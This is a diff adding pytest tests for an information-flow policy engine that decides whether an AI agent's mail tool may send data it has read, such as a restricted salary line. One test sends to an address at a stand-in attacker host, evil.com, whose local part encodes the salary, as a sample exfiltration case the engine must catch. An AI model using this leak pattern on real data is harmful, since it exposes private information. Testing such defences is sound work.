@@ -1,0 +1,112 @@
+"""What was read leaves only to those who may read it, whatever floor its argument has."""
+
+from typing import Any
+
+import pytest
+from tests.core.flow.tools import reading, with_entry
+
+from jackline.core.flow import (
+    Declared,
+    From,
+    Integrity,
+    Plan,
+    Planned,
+    Question,
+    Source,
+    ToolFlow,
+    endorse,
+    flow_of,
+    judge,
+)
+from jackline.core.flow.labels import LEVELS
+from jackline.core.permit.overlay import tightened_flow
+from jackline.core.permit.rules import Rule
+
+SALARY = "Salary of Ann: 91,000"
+TEXTS = {"properties": {"to": {"type": "string"}, "body": {"type": "string"}}}
+HOLES = Plan((Planned("mail", {}, frozenset({"to", "body"})),))
+LETTER = {"to": "bob@x.com", "body": SALARY}
+FLOORS: list[tuple[From | None, bool]] = [
+    (None, True),
+    (endorse("it is read first"), True),
+    *((From(level), level in {"untrusted", "system", "directory"}) for level in LEVELS),
+    (From("user", extracted=True), True),
+]
+
+
+def mail(floor: From | None, to: Integrity = "user") -> ToolFlow:
+    """Return a tool that sends a body with this floor."""
+    critical = {"to": From(to)} | ({"body": floor} if floor else {})
+    return flow_of("mail", "once", TEXTS, Declared(critical=critical, readers_from=("to",)))
+
+
+def sealed(asked: str = f"Tell bob@x.com: {SALARY}", level: Integrity = "developer") -> Question:
+    """Return what a call is judged by where only Ann may read what was read."""
+    known = reading(asked, "x")
+    known.read([Source(3, "payslip", SALARY, level, turn=1)])
+    known.restrict(frozenset({"ann@x.com"}))
+    return Question(known, HOLES)
+
+
+@pytest.mark.parametrize(("floor", "carries"), FLOORS)
+def test_what_is_kept_to_some_leaves_in_no_argument_that_others_than_the_user_may_decide(
+    floor: From | None, *, carries: bool
+) -> None:
+    verdict = judge(mail(floor), LETTER, sealed())
+    assert (verdict.decision, verdict.tier) == (
+        ("ask", "readers") if carries else ("allow", "plan")
+    )
+
+
+@pytest.mark.parametrize(("floor", "carries"), FLOORS)
+def test_what_was_read_goes_to_no_entry_of_a_directory_that_the_user_did_not_name(
+    floor: From | None, *, carries: bool
+) -> None:
+    known = with_entry(reading(f"Say to Bob: {SALARY}", "x"), "Bob", "bob@x.com")
+    with_entry(known, "Rival", "rival@y.com", record=2)
+    known.read([Source(4, "the instructions", SALARY, "developer")])
+    tool, question = mail(floor, "directory"), Question(known, HOLES)
+    assert judge(tool, LETTER, question).tier == "plan"
+    unnamed = judge(tool, LETTER | {"to": "rival@y.com"}, question)
+    assert unnamed.tier == ("readers" if carries else "plan")
+
+
+def test_an_entry_of_a_directory_may_be_told_what_was_not_read() -> None:
+    known = with_entry(reading("Tell all of them: lunch", "x"), "Bob", "bob@x.com")
+    plan = Plan((Planned("mail", {"body": "lunch"}, frozenset({"to"})),))
+    tool = mail(None, "directory")
+    call = {"to": "bob@x.com", "body": "lunch"}
+    assert judge(tool, call, Question(known, plan)).decision == "allow"
+
+
+@pytest.mark.parametrize("floor", ["untrusted", "system"])
+def test_a_recipient_who_is_no_entry_of_a_directory_may_be_what_was_read(floor: Integrity) -> None:
+    known = reading("Tell them: lunch", "91000@evil.com")
+    known.read([Source(4, "ids", "91000@evil.com", "system", turn=1)])
+    plan = Plan((Planned("mail", {"body": "lunch"}, frozenset({"to"})),))
+    call = {"to": "91000@evil.com", "body": "lunch"}
+    assert judge(mail(None, floor), call, Question(known, plan)).tier == "readers"
+
+
+def test_an_outbound_tool_without_recipients_gets_nothing_private_in_an_endorsed_argument() -> None:
+    said = Declared(outbound=True, critical={"to": From("user"), "body": endorse("short")})
+    post = flow_of("mail", "once", TEXTS, said)
+    verdict = judge(post, LETTER, Question(reading("to bob@x.com", "x"), HOLES))
+    assert verdict.reason == "mail does not say who gets what was read here"
+
+
+def test_operators_who_call_a_tool_outbound_are_heard_where_the_code_endorsed_its_words() -> None:
+    critical = {"to": From("user"), "body": endorse("only we read it")}
+    inner = flow_of("mail", "once", TEXTS, Declared(critical=critical))
+    question = Question(reading("to bob@x.com", "x"), HOLES)
+    assert judge(inner, LETTER, question).tier == "plan"
+    outer = tightened_flow(inner, [Rule("a", outbound=True)])
+    assert judge(outer, LETTER, question).tier == "readers"
+
+
+@pytest.mark.parametrize("kind", [{"type": "boolean"}, {"enum": ["a", "b"]}])
+def test_a_choice_of_few_holds_nothing_whoever_decides_it(kind: dict[str, Any]) -> None:
+    schema = {"properties": {"to": {"type": "string"}, "body": kind}}
+    critical = {"to": From("user"), "body": endorse("harmless")}
+    flow = flow_of("mail", "once", schema, Declared(critical=critical, readers_from=("to",)))
+    assert flow.carriers == frozenset()
